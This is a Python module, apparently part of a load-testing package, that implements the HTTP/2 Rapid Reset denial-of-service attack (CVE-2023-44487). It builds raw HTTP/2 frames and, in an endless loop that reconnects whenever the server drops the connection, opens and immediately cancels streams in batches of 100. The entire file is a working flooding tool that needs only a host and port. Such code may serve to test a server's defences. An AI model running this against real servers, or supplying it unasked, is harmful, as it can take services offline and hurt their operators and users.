"""One connection that opens streams and resets them in a loop (CVE-2023-44487)."""

import contextlib
import select
import socket
import struct
import threading

from client_loads.raw_http2 import DATA, HEADERS, RST_STREAM, SETTINGS, call_headers, frame

_END_HEADERS = 4
_CANCEL = struct.pack(">I", 8)
_EMPTY_MESSAGE = bytes(5)
_NUM_AT_ONCE = 100


class RapidReset:
    """It connects again where the server closes the connection."""

    def __init__(self, host: str, port: int, method: str) -> None:
        self.num_streams = 0
        self._address = (host, port)
        self._headers = call_headers(host, method)
        self._stopped = threading.Event()

    def stop(self) -> None:
        self._stopped.set()

    def run(self) -> None:
        while not self._stopped.is_set():
            with contextlib.suppress(OSError), socket.create_connection(self._address, timeout=5.0) as connection:
                connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b""))
                self._attack(connection)

    def _attack(self, connection: socket.socket) -> None:
        stream = 1
        while not self._stopped.is_set():
            numbers = range(stream, stream + 2 * _NUM_AT_ONCE, 2)
            connection.sendall(b"".join(map(self._opened_and_reset, numbers)))
            self.num_streams += _NUM_AT_ONCE
            stream = numbers[-1] + 2
            _discard(connection)

    def _opened_and_reset(self, stream: int) -> bytes:
        opened = frame(HEADERS, _END_HEADERS, stream, self._headers) + frame(DATA, 0, stream, _EMPTY_MESSAGE)
        return opened + frame(RST_STREAM, 0, stream, _CANCEL)


def _discard(connection: socket.socket) -> None:
    """So that the server can write. Raises OSError when it has closed the connection."""
    is_readable, _, _ = select.select([connection], [], [], 0.0)
    if is_readable and not connection.recv(1 << 20):
        raise ConnectionResetError("closed by the server")
